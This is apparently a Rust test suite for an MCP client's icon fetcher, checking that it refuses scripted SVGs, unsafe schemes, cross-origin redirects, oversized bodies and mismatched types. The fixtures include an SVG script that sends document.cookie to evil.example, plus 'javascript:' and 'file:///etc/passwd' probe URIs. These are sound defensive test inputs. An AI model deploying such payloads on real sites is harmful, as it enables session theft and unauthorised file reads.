//! The icon fetcher against a loopback HTTP server offering every unsafe case: each one is
//! refused with its reason, and the good icons (PNG, JPEG, WebP, data:) come through.

use mcp_client::icons::{FetchedIcon, Icon, IconError, IconFetcher, IconMime, IconSource};
use mcp_test_support::tls::{TlsAnswers, TlsServer};
use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

// ------------------------------------------------------------------------------------------
// Images
// ------------------------------------------------------------------------------------------

fn chunk(kind: &[u8], data: &[u8]) -> Vec<u8> {
    let mut v = (data.len() as u32).to_be_bytes().to_vec();
    v.extend_from_slice(kind);
    v.extend_from_slice(data);
    // CRCs are not checked by the fetcher; a constant keeps the files consistent.
    v.extend_from_slice(&[0xDE, 0xAD, 0xBE, 0xEF]);
    v
}

/// A minimal PNG: signature, IHDR, (acTL), IDAT, IEND.
fn png(width: u32, height: u32, frames: Option<u32>) -> Vec<u8> {
    let mut ihdr = width.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 6, 0, 0, 0]);
    let mut v = b"\x89PNG\r\n\x1a\n".to_vec();
    v.extend(chunk(b"IHDR", &ihdr));
    if let Some(n) = frames {
        let mut actl = n.to_be_bytes().to_vec();
        actl.extend_from_slice(&0u32.to_be_bytes());
        v.extend(chunk(b"acTL", &actl));
    }
    v.extend(chunk(b"IDAT", &[0x78, 0x9C, 0x63, 0x60, 0, 0, 0, 2, 0, 1]));
    v.extend(chunk(b"IEND", &[]));
    v
}

/// A JPEG header: SOI, APP0 (JFIF), SOF0 with the dimensions, then EOI.
fn jpeg(width: u16, height: u16) -> Vec<u8> {
    let mut v = vec![0xFF, 0xD8, 0xFF, 0xE0, 0, 16];
    v.extend_from_slice(b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0");
    v.extend_from_slice(&[0xFF, 0xC0, 0, 11, 8]);
    v.extend_from_slice(&height.to_be_bytes());
    v.extend_from_slice(&width.to_be_bytes());
    v.extend_from_slice(&[1, 1, 0x11, 0, 0xFF, 0xD9]);
    v
}

/// A lossless WebP header (VP8L).
fn webp(width: u32, height: u32) -> Vec<u8> {
    let bits = (width - 1) | (height - 1) << 14;
    let mut body = b"WEBPVP8L".to_vec();
    body.extend_from_slice(&5u32.to_le_bytes());
    body.push(0x2F);
    body.extend_from_slice(&bits.to_le_bytes());
    body.push(0);
    let mut v = b"RIFF".to_vec();
    v.extend_from_slice(&(body.len() as u32).to_le_bytes());
    v.extend(body);
    v
}

const SVG: &[u8] = b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"16\" height=\"16\">\
<script>fetch('https://evil.example/?c=' + document.cookie)</script></svg>";

fn b64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

// ------------------------------------------------------------------------------------------
// Loopback server
// ------------------------------------------------------------------------------------------

/// What a route answers.
enum Answer {
    /// Status, headers, body (with a Content-Length).
    Full(u16, Vec<(&'static str, String)>, Vec<u8>),
    /// A 200 body of `total` bytes without a Content-Length, written in 64 KiB pieces until
    /// done or the peer goes away.
    Endless { total: usize },
    /// Accepts the request and never answers.
    Silent,
}

fn ok(content_type: &str, body: Vec<u8>) -> Answer {
    Answer::Full(200, vec![("content-type", content_type.to_string())], body)
}

fn redirect(location: String) -> Answer {
    Answer::Full(302, vec![("location", location)], Vec::new())
}

#[derive(Debug, Clone)]
struct Seen {
    path: String,
    headers: HashMap<String, String>,
}

type Routes = Arc<dyn Fn(&str) -> Answer + Send + Sync>;

/// A raw HTTP/1.1 server on 127.0.0.1: one request per connection, every request recorded.
struct Server {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<Seen>>>,
    /// For `Endless`: bytes written, and whether a write failed (the client stopped reading).
    written: Arc<AtomicUsize>,
    write_failed: Arc<AtomicBool>,
}

impl Server {
    async fn start(routes: impl Fn(&str) -> Answer + Send + Sync + 'static) -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let server = Server { addr, seen: Arc::default(), written: Arc::default(), write_failed: Arc::default() };
        let routes: Routes = Arc::new(routes);
        let (seen, written, failed) = (server.seen.clone(), server.written.clone(), server.write_failed.clone());
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                let (routes, seen, written, failed) = (routes.clone(), seen.clone(), written.clone(), failed.clone());
                tokio::spawn(async move {
                    let _ = serve(stream, routes, seen, written, failed).await;
                });
            }
        });
        server
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }
}

async fn serve(
    mut s: TcpStream,
    routes: Routes,
    seen: Arc<Mutex<Vec<Seen>>>,
    written: Arc<AtomicUsize>,
    failed: Arc<AtomicBool>,
) -> std::io::Result<()> {
    let mut head = Vec::new();
    let mut buf = [0u8; 1024];
    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
        let n = s.read(&mut buf).await?;
        if n == 0 || head.len() > 16 * 1024 {
            return Ok(());
        }
        head.extend_from_slice(&buf[..n]);
    }
    let text = String::from_utf8_lossy(&head).into_owned();
    let mut lines = text.split("\r\n");
    let path = lines.next().unwrap_or("").split(' ').nth(1).unwrap_or("").to_string();
    let headers = lines
        .filter_map(|l| l.split_once(':'))
        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_string()))
        .collect();
    seen.lock().unwrap().push(Seen { path: path.clone(), headers });
    match routes(&path) {
        Answer::Full(status, headers, body) => {
            let mut out = format!("HTTP/1.1 {status} X\r\ncontent-length: {}\r\nconnection: close\r\n", body.len());
            for (k, v) in headers {
                out.push_str(&format!("{k}: {v}\r\n"));
            }
            out.push_str("\r\n");
            s.write_all(out.as_bytes()).await?;
            s.write_all(&body).await?;
        }
        Answer::Endless { total } => {
            s.write_all(b"HTTP/1.1 200 OK\r\ncontent-type: image/png\r\nconnection: close\r\n\r\n").await?;
            let mut piece = png(16, 16, None);
            piece.resize(64 * 1024, 0);
            while written.load(Ordering::SeqCst) < total {
                if s.write_all(&piece).await.is_err() {
                    failed.store(true, Ordering::SeqCst);
                    return Ok(());
                }
                written.fetch_add(piece.len(), Ordering::SeqCst);
            }
        }
        Answer::Silent => tokio::time::sleep(Duration::from_secs(30)).await,
    }
    s.shutdown().await
}

// ------------------------------------------------------------------------------------------
// Helpers
// ------------------------------------------------------------------------------------------

fn loopback() -> IconFetcher {
    IconFetcher::builder().allow_loopback_http(true).build()
}

fn icon(src: impl Into<String>, mime: Option<&str>) -> Icon {
    let mut i = Icon::new(src);
    i.mime_type = mime.map(str::to_string);
    i
}

async fn fetch(f: &IconFetcher, icon: &Icon, server: &Server) -> Result<FetchedIcon, IconError> {
    tokio::time::timeout(Duration::from_secs(20), f.fetch(icon, Some(&server.url("/mcp"))))
        .await
        .expect("fetch is bounded")
}

/// Serves the test images at fixed paths.
async fn image_server() -> Server {
    Server::start(|path| match path {
        "/icon.png" => ok("image/png", png(48, 48, None)),
        "/icon.jpg" => ok("image/jpeg", jpeg(64, 32)),
        "/icon.webp" => ok("image/webp", webp(100, 50)),
        "/generic.png" => ok("application/octet-stream", png(8, 8, None)),
        "/png-as-jpeg" => ok("image/jpeg", png(8, 8, None)),
        "/jpeg" => ok("image/jpeg", jpeg(8, 8)),
        "/huge.png" => ok("image/png", png(10_000, 10, None)),
        "/apng" => ok("image/png", png(16, 16, Some(1000))),
        "/script.svg" => ok("image/svg+xml", SVG.to_vec()),
        "/svg-as-png" => ok("image/png", SVG.to_vec()),
        "/gif" => ok("image/gif", b"GIF89a\x10\0\x10\0\0\0\0;".to_vec()),
        "/html" => ok("text/html", b"<html><body>hi</body></html>".to_vec()),
        "/missing" => Answer::Full(404, vec![], b"no".to_vec()),
        "/declared-big" => Answer::Full(200, vec![("content-type", "image/png".into())], vec![0; 300 * 1024]),
        "/endless" => Answer::Endless { total: 64 * 1024 * 1024 },
        "/silent" => Answer::Silent,
        _ => Answer::Full(404, vec![], Vec::new()),
    })
    .await
}

// ------------------------------------------------------------------------------------------
// Good icons
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn good_png_jpeg_and_webp_come_through_without_credentials() {
    let s = image_server().await;
    let f = loopback();
    let got = fetch(&f, &icon(s.url("/icon.png"), Some("image/png")), &s).await.unwrap();
    assert_eq!((got.mime, got.width, got.height, got.frames), (IconMime::Png, 48, 48, 1));
    assert_eq!(got.bytes, png(48, 48, None));
    assert_eq!(got.source, IconSource::Url(s.url("/icon.png")));

    let got = fetch(&f, &icon(s.url("/icon.jpg"), Some("image/jpg")), &s).await.unwrap();
    assert_eq!((got.mime, got.width, got.height), (IconMime::Jpeg, 64, 32));
    assert_eq!(got.mime.extension(), "jpg");

    let got = fetch(&f, &icon(s.url("/icon.webp"), None), &s).await.unwrap();
    assert_eq!((got.mime, got.width, got.height), (IconMime::Webp, 100, 50));

    // A generic Content-Type is advisory: the magic bytes decide.
    let got = fetch(&f, &icon(s.url("/generic.png"), None), &s).await.unwrap();
    assert_eq!(got.mime, IconMime::Png);

    // A relative src is resolved against the server's URL.
    let got = fetch(&f, &icon("/icon.png", None), &s).await.unwrap();
    assert_eq!(got.source, IconSource::Url(s.url("/icon.png")));

    let seen = s.seen();
    assert_eq!(seen.len(), 5);
    for req in &seen {
        assert!(!req.headers.contains_key("cookie"), "{req:?}");
        assert!(!req.headers.contains_key("authorization"), "{req:?}");
        assert!(!req.headers.contains_key("proxy-authorization"), "{req:?}");
        let mut names: Vec<&str> = req.headers.keys().map(String::as_str).collect();
        names.sort_unstable();
        assert_eq!(names, ["accept", "host", "user-agent"], "only Accept, Host and User-Agent are sent: {req:?}");
    }
}

#[tokio::test]
async fn same_origin_redirects_are_followed_up_to_the_limit() {
    let s = Server::start(|path| match path {
        "/old" => redirect("/icon.png".into()),
        "/icon.png" => ok("image/png", png(4, 4, None)),
        p => redirect(format!("{p}x")),
    })
    .await;
    let got = fetch(&loopback(), &icon(s.url("/old"), None), &s).await.unwrap();
    assert_eq!(got.source, IconSource::Url(s.url("/icon.png")));
    let paths: Vec<String> = s.seen().into_iter().map(|r| r.path).collect();
    assert_eq!(paths, ["/old", "/icon.png"]);

    let err = fetch(&loopback(), &icon(s.url("/loop"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::TooManyRedirects { max: 3 });
    assert_eq!(s.seen().len(), 2 + 4, "the first request and 3 redirects");

    let none = IconFetcher::builder().allow_loopback_http(true).max_redirects(0).build();
    let err = fetch(&none, &icon(s.url("/old"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::TooManyRedirects { max: 0 });
}

#[tokio::test]
async fn data_uris_good_and_bad() {
    let s = image_server().await;
    let f = loopback();
    let good = format!("data:image/png;base64,{}", b64(&png(24, 24, None)));
    let got = fetch(&f, &icon(&good, Some("image/png")), &s).await.unwrap();
    assert_eq!((got.mime, got.width, got.source), (IconMime::Png, 24, IconSource::Data));
    // No server URL needed (a stdio server).
    assert!(f.fetch(&icon(&good, None), None).await.is_ok());
    // Percent-encoded.
    let pct: String = jpeg(5, 6).iter().map(|b| format!("%{b:02X}")).collect();
    let got = fetch(&f, &icon(format!("data:image/jpeg,{pct}"), None), &s).await.unwrap();
    assert_eq!((got.mime, got.width, got.height), (IconMime::Jpeg, 5, 6));

    let svg = format!("data:image/svg+xml;base64,{}", b64(SVG));
    assert_eq!(fetch(&f, &icon(svg, None), &s).await.unwrap_err(), IconError::SvgRefused);
    let lying = format!("data:image/jpeg;base64,{}", b64(&png(2, 2, None)));
    let err = fetch(&f, &icon(lying, None), &s).await.unwrap_err();
    assert!(matches!(err, IconError::MimeMismatch { declared_by: "data: media type", detected: IconMime::Png, .. }));
    let err = fetch(&f, &icon("data:image/png;base64,@@@@", None), &s).await.unwrap_err();
    assert!(matches!(err, IconError::InvalidDataUri { .. }), "{err}");
    let err = fetch(&f, &icon("data:text/html,%3Cb%3Ehi", None), &s).await.unwrap_err();
    assert_eq!(err, IconError::UnknownType);
    let small = IconFetcher::builder().max_bytes(1000).build();
    let big = format!("data:image/png;base64,{}", b64(&[0u8; 3000]));
    assert!(matches!(small.fetch(&icon(big, None), None).await.unwrap_err(), IconError::TooLarge { .. }));
    assert!(s.seen().is_empty(), "data: icons make no request");
}

// ------------------------------------------------------------------------------------------
// Schemes and origins
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn unsafe_schemes_are_refused_before_any_request() {
    let s = image_server().await;
    let f = loopback();
    for (src, scheme) in [
        ("javascript:alert(document.cookie)", "javascript"),
        ("file:///etc/passwd", "file"),
        ("ftp://127.0.0.1/icon.png", "ftp"),
        ("ws://127.0.0.1/icon.png", "ws"),
        ("vscode://settings/icon.png", "vscode"),
    ] {
        let err = fetch(&f, &icon(src, None), &s).await.unwrap_err();
        assert_eq!(err, IconError::UnsafeScheme { scheme: scheme.into() }, "{src}");
        assert!(err.to_string().contains("only https: and data:"), "{err}");
    }
    // http: is refused without the opt-in, and with it off loopback.
    let err = fetch(&IconFetcher::default(), &icon(s.url("/icon.png"), None), &s).await.unwrap_err();
    assert!(matches!(err, IconError::InsecureHttp { .. }), "{err}");
    let remote = icon("http://icons.example/icon.png", None);
    let err = f.fetch(&remote, Some("http://icons.example/mcp")).await.unwrap_err();
    assert!(matches!(err, IconError::InsecureHttp { .. }), "{err}");
    // Credentials in the URI.
    let creds = icon(format!("http://user:pw@{}/icon.png", s.addr), None);
    assert_eq!(fetch(&f, &creds, &s).await.unwrap_err(), IconError::CredentialsInUri);
    assert!(s.seen().is_empty(), "{:?}", s.seen());
}

#[tokio::test]
async fn cross_origin_icons_and_redirects_never_reach_the_other_origin() {
    let other = image_server().await;
    let target = other.url("/icon.png");
    let s = Server::start(move |path| match path {
        "/away" => redirect(target.clone()),
        "/to-https" => redirect(target.replace("http:", "https:")),
        "/to-js" => redirect("javascript:alert(1)".into()),
        "/no-location" => Answer::Full(302, vec![], Vec::new()),
        _ => Answer::Full(404, vec![], Vec::new()),
    })
    .await;
    let f = loopback();

    // A src on another port is another origin.
    let err = fetch(&f, &icon(other.url("/icon.png"), None), &s).await.unwrap_err();
    assert!(matches!(err, IconError::CrossOrigin { .. }), "{err}");
    assert!(err.to_string().contains(&format!("not on the server's origin http://{}", s.addr)), "{err}");
    // Stdio servers have no origin.
    let err = f.fetch(&icon(other.url("/icon.png"), None), None).await.unwrap_err();
    assert!(matches!(err, IconError::NoServerOrigin { .. }), "{err}");

    let err = fetch(&f, &icon(s.url("/away"), None), &s).await.unwrap_err();
    assert!(matches!(&err, IconError::CrossOriginRedirect { location, .. } if *location == other.url("/icon.png")));
    let err = fetch(&f, &icon(s.url("/to-https"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::SchemeChange { from: "http".into(), to: "https".into() });
    assert!(err.to_string().contains("may not change the scheme"), "{err}");
    let err = fetch(&f, &icon(s.url("/to-js"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::SchemeChange { from: "http".into(), to: "javascript".into() });
    let err = fetch(&f, &icon(s.url("/no-location"), None), &s).await.unwrap_err();
    assert!(matches!(err, IconError::InvalidRedirect { .. }), "{err}");

    assert_eq!(s.seen().len(), 4);
    assert!(other.seen().is_empty(), "the other origin saw {:?}", other.seen());
}

// ------------------------------------------------------------------------------------------
// Content
// ------------------------------------------------------------------------------------------

#[tokio::test]
async fn types_are_decided_by_magic_bytes() {
    let s = image_server().await;
    let f = loopback();
    // PNG declared by the icon, JPEG served.
    let err = fetch(&f, &icon(s.url("/jpeg"), Some("image/png")), &s).await.unwrap_err();
    assert_eq!(
        err,
        IconError::MimeMismatch { declared_by: "mimeType", declared: "image/png".into(), detected: IconMime::Jpeg }
    );
    assert_eq!(err.to_string(), "icon mimeType says \"image/png\" but the content is image/jpeg");
    // Content-Type says JPEG, the bytes are PNG.
    let err = fetch(&f, &icon(s.url("/png-as-jpeg"), None), &s).await.unwrap_err();
    assert!(matches!(err, IconError::MimeMismatch { declared_by: "Content-Type", detected: IconMime::Png, .. }));
    // SVG with a script, whatever it is labelled.
    for path in ["/script.svg", "/svg-as-png"] {
        let err = fetch(&f, &icon(s.url(path), None), &s).await.unwrap_err();
        assert_eq!(err, IconError::SvgRefused, "{path}");
        assert_eq!(err.to_string(), "SVG refused: scripts and external references cannot be ruled out");
    }
    let err = fetch(&f, &icon(s.url("/script.svg"), Some("image/svg+xml")), &s).await.unwrap_err();
    assert_eq!(err, IconError::SvgRefused);
    let err = fetch(&f, &icon(s.url("/gif"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::TypeNotAllowed { detected: "GIF".into() });
    let err = fetch(&f, &icon(s.url("/html"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::UnknownType);
    let err = fetch(&f, &icon(s.url("/missing"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::HttpStatus { status: 404 });
}

#[tokio::test]
async fn dimension_and_frame_limits() {
    let s = image_server().await;
    let f = IconFetcher::builder().allow_loopback_http(true).max_frames(100).build();
    let err = fetch(&f, &icon(s.url("/huge.png"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::TooManyPixels { width: 10_000, height: 10, max_width: 4096, max_height: 4096 });
    assert!(err.to_string().contains("10000x10 pixels, over the limit of 4096x4096"), "{err}");
    let err = fetch(&f, &icon(s.url("/apng"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::TooManyFrames { frames: 1000, max: 100 });
    let small = IconFetcher::builder().allow_loopback_http(true).max_dimensions(32, 32).build();
    assert!(matches!(fetch(&small, &icon(s.url("/icon.png"), None), &s).await, Err(IconError::TooManyPixels { .. })));
}

#[tokio::test]
async fn oversized_bodies_are_not_read() {
    let s = image_server().await;
    let f = IconFetcher::builder().allow_loopback_http(true).max_bytes(256 * 1024).build();
    // A Content-Length over the limit: refused from the head.
    let err = fetch(&f, &icon(s.url("/declared-big"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::TooLarge { limit: 256 * 1024, declared: Some(300 * 1024) });

    // No Content-Length, 64 MiB streamed: the client stops at the limit and hangs up.
    let err = fetch(&f, &icon(s.url("/endless"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::TooLarge { limit: 256 * 1024, declared: None });
    assert!(err.to_string().starts_with("icon is larger than the limit of 262144 bytes"), "{err}");
    for _ in 0..200 {
        if s.write_failed.load(Ordering::SeqCst) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert!(s.write_failed.load(Ordering::SeqCst), "the server's writes fail once the client hung up");
    let written = s.written.load(Ordering::SeqCst);
    assert!(written < 16 * 1024 * 1024, "the server could write only {written} of 64 MiB");
}

#[tokio::test]
async fn a_silent_server_times_out() {
    let s = image_server().await;
    let f = IconFetcher::builder().allow_loopback_http(true).timeout(Duration::from_millis(300)).build();
    let err = fetch(&f, &icon(s.url("/silent"), None), &s).await.unwrap_err();
    assert_eq!(err, IconError::Timeout { after: Duration::from_millis(300) });
    assert_eq!(err.to_string(), "icon fetch timed out after 0.3s");
}

// ------------------------------------------------------------------------------------------
// https (openssl s_server -HTTP: each file is a complete HTTP response)
// ------------------------------------------------------------------------------------------

fn response(head: &str, body: &[u8]) -> Vec<u8> {
    let mut v = format!("HTTP/1.0 {head}\r\nContent-Length: {}\r\n\r\n", body.len()).into_bytes();
    v.extend_from_slice(body);
    v
}

#[tokio::test]
async fn https_icons_with_a_trusted_certificate() {
    let files = [("icon.png", response("200 OK\r\nContent-Type: image/png", &png(32, 32, None)))];
    let Some(tls) = TlsServer::start(TlsAnswers::Files(&files)) else { return };
    // The downgrade redirect names the server's own host and port, over http.
    let down = response(&format!("302 Found\r\nLocation: http://localhost:{}/icon.png", tls.port), b"");
    tls.put_file("down", &down);

    let server = tls.url("/mcp");
    let f = IconFetcher::builder().add_root_certificate_pem(&tls.cert).build();
    let run = |src: String| {
        let f = &f;
        let server = server.clone();
        async move { tokio::time::timeout(Duration::from_secs(20), f.fetch(&icon(src, None), Some(&server))).await.unwrap() }
    };
    let got = run(tls.url("/icon.png")).await.unwrap();
    assert_eq!((got.mime, got.width, got.height), (IconMime::Png, 32, 32));
    assert_eq!(got.source, IconSource::Url(tls.url("/icon.png")));

    let err = run(tls.url("/down")).await.unwrap_err();
    assert_eq!(err, IconError::SchemeChange { from: "https".into(), to: "http".into() });

    // Without the test root, the self-signed certificate is refused.
    let strict = IconFetcher::default();
    let err = strict.fetch(&icon(tls.url("/icon.png"), None), Some(&server)).await.unwrap_err();
    assert!(matches!(&err, IconError::Network { reason } if reason.contains("certificate")), "{err}");
}
